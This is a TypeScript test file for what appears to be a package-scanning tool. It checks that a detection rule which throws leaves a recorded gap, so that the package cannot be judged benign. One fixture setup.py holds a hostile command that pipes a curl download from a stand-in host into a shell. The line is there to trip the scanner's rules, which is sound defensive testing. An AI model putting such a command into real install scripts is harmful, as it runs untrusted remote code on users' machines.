// A rule that throws on a file leaves that file not analysed completely: the analysis carries a gap, so the
// package cannot come out benign (the fail-closed rule), and the other rules still run.
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { extractFeatures, initFeatures } from '../../src/features/index.js';
import { RULES } from '../../src/rules/index.js';
import { viewOf } from './view.js';

beforeAll(() => initFeatures());
afterEach(() => vi.restoreAllMocks());

describe('a rule that fails', () => {
  it('makes a gap naming the file and the rule, and keeps the other rules', () => {
    const rule = RULES[0]!;
    vi.spyOn(rule, 'check').mockImplementation(() => {
      throw new Error('boom');
    });
    const analysis = extractFeatures(
      viewOf({ 'p-1.0/setup.py': 'import os\nos.system("curl http://x | sh")\n' }),
    );
    expect(analysis.gaps).toEqual([
      expect.objectContaining({
        stage: 'analysis',
        path: 'p-1.0/setup.py',
        reason: expect.stringContaining(rule.id),
      }),
    ]);
    expect(analysis.evidence.some((e) => e.rule !== 'rule-error')).toBe(true);
  });

  it('makes no gap when every rule runs', () => {
    const analysis = extractFeatures(viewOf({ 'p-1.0/setup.py': 'x = 1\n' }));
    expect(analysis.gaps ?? []).toEqual([]);
  });
});
